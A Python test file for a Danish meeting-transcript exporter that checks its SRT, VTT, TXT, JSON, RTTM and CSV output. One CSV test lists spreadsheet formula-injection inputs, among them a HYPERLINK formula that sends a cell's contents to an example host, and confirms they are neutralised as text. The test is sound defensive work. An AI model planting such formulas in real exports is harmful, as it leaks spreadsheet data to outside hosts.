"""One writer per format, on a hand-made transcript."""

import json

from medlyt.export import Transcript, get_writer, timestamp, write_csv
from meetings.records import Segment, Word

TRANSCRIPT = Transcript(
    id="abc",
    title="Opfølgning",
    duration_s=3725.5,
    model="base",
    segments=[
        Segment(1.0, 2.5, "Hvordan går det?", [Word(1.0, 1.6, "Hvordan", 0.9), Word(1.6, 2.5, "går det?", 0.8)]),
        Segment(3725.0, 3725.4, "Tak.", [Word(3725.0, 3725.4, "Tak.", 0.99)]),
    ],
)


def test_timestamps():
    assert timestamp(3725.4) == "01:02:05.400"
    assert timestamp(3725.4, ",") == "01:02:05,400"
    assert timestamp(-1) == "00:00:00.000"


def test_json_has_the_documented_shape():
    document = json.loads(get_writer("json")(TRANSCRIPT))
    assert document["meeting"] == {"id": "abc", "title": "Opfølgning", "duration_s": 3725.5, "model": "base",
                                   "model_sha256": None, "model_revision": None}
    assert document["segments"][0]["words"][1] == {"start": 1.6, "end": 2.5, "word": "går det?", "probability": 0.8,
                                                   "loudness_db": None, "speaker": None}
    assert document["speakers"] == [] and document["flags"] == [] and document["balance"] == {}


def test_srt_vtt_txt():
    assert get_writer("srt")(TRANSCRIPT) == (
        "1\n00:00:01,000 --> 00:00:02,500\nHvordan går det?\n\n2\n01:02:05,000 --> 01:02:05,400\nTak.\n"
    )
    assert get_writer("vtt")(TRANSCRIPT).startswith("WEBVTT\n\n00:00:01.000 --> 00:00:02.500\nHvordan går det?\n")
    assert get_writer("txt")(TRANSCRIPT) == "[00:00:01] Hvordan går det?\n[01:02:05] Tak.\n"


def test_csv_is_for_a_danish_spreadsheet_and_runs_no_formula():
    """Cells a spreadsheet would run (=, +, -, @, a leading tab) come out as text; the rest as said."""
    import csv
    import io

    hostile = ['=HYPERLINK("http://example.org/?q="&A1;"klik")', "+45 1234", "-2+3", "@SUM(A1)", "\t=1+1", "Ja, 2-3 gange."]
    t = Transcript(segments=[Segment(float(i), i + 0.5, text, speaker="S1") for i, text in enumerate(hostile)],
                   speakers=[{"id": "S1", "label": "=Borger", "role": "borger"}])
    written = write_csv(t)
    assert written.startswith("\ufeffStart;Slut;Taler;Rolle;Tekst\r\n")
    rows = list(csv.reader(io.StringIO(written.removeprefix("\ufeff")), delimiter=";"))[1:]
    assert [r[4] for r in rows] == ["'" + h for h in hostile[:5]] + ["Ja, 2-3 gange."]
    assert {r[2] for r in rows} == {"'=Borger"} and rows[0][:2] == ["00:00:00", "00:00:00"] and rows[3][3] == "borger"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)


def test_rttm_is_the_measured_speech_so_it_agrees_with_the_balance():
    """One attribution: the RTTM is built from the measured speech pieces (what the balance, the
    timeline and the timing metrics read), not from word times, so each speaker's seconds in it
    are the balance's talk time; pieces that touch join into one line, overlaps stay overlaps."""
    from feedback.metrics import balance
    from meetings.records import Speech

    speech = [Speech(0.0, 0.5, "S1"), Speech(0.5, 1.0, "S1"), Speech(1.0, 1.3, "S1"),  # one turn, in pieces
              Speech(1.1, 2.0, "S2"), Speech(3.0, 3.4, "S1")]
    # The words say otherwise (Whisper's times): the RTTM must not follow them.
    words = [Segment(0.2, 2.9, "hej med dig", [Word(0.2, 2.9, "hej", 0.9)], speaker="S1")]
    rttm = get_writer("rttm")(Transcript(segments=words, id="m1", speech=speech))
    lines = [line.split() for line in rttm.splitlines()]
    assert [(float(r[3]), round(float(r[4]), 3), r[7]) for r in lines] == [(0.0, 1.3, "S1"), (1.1, 0.9, "S2"),
                                                                           (3.0, 0.4, "S1")]
    seconds = {}
    for r in lines:
        seconds[r[7]] = seconds.get(r[7], 0.0) + float(r[4])
    talk = balance(speech, gap_s=1.0)
    assert {who: round(s, 2) for who, s in seconds.items()} == {who: b["talk_s"] for who, b in talk.items()}


def test_rttm_without_measured_speech_falls_back_to_word_times():
    t = Transcript(segments=[Segment(0.0, 5.0, "a b", [Word(0.5, 1.0, "a", 0.9), Word(1.2, 2.0, "b", 0.9)],
                                     speaker="S1")], id="m1")
    assert get_writer("rttm")(t) == "SPEAKER m1 1 0.500 1.500 <NA> <NA> S1 <NA> <NA>\n"


def test_a_voice_that_holds_everyones_talk_is_exported_without_name_or_role():
    """As on the pages: one voice found where two people speak, on one microphone, holds the
    citizen's words too, so the export calls it "Taler 1" without a role; with both voices
    found, the names and roles as given."""
    from meetings.records import Meeting, Participant, Speaker

    meeting = Meeting("m1", "Opfølgning", "2026-12-07T09:00:00+00:00",
                      [Participant("sagsbehandler", "Sagsbehandler"), Participant("borger", "Borger")])
    lines = [Segment(0.0, 2.0, "Har du søgt job?", speaker="S1"), Segment(2.5, 3.0, "Nej.", speaker="S1")]
    named = [Speaker("S1", "Sagsbehandler", "sagsbehandler"), Speaker("S2", "Borger", "borger")]
    one = Transcript.of_meeting(meeting, lines, named[:1])
    assert one.speakers == [{"id": "S1", "label": "Taler 1", "role": None}]
    assert get_writer("txt")(one).splitlines()[1] == "[00:00:02] Taler 1: Nej."
    both = Transcript.of_meeting(meeting, [lines[0], Segment(2.5, 3.0, "Nej.", speaker="S2")], named)
    assert [s["label"] for s in both.speakers] == ["Sagsbehandler", "Borger"]
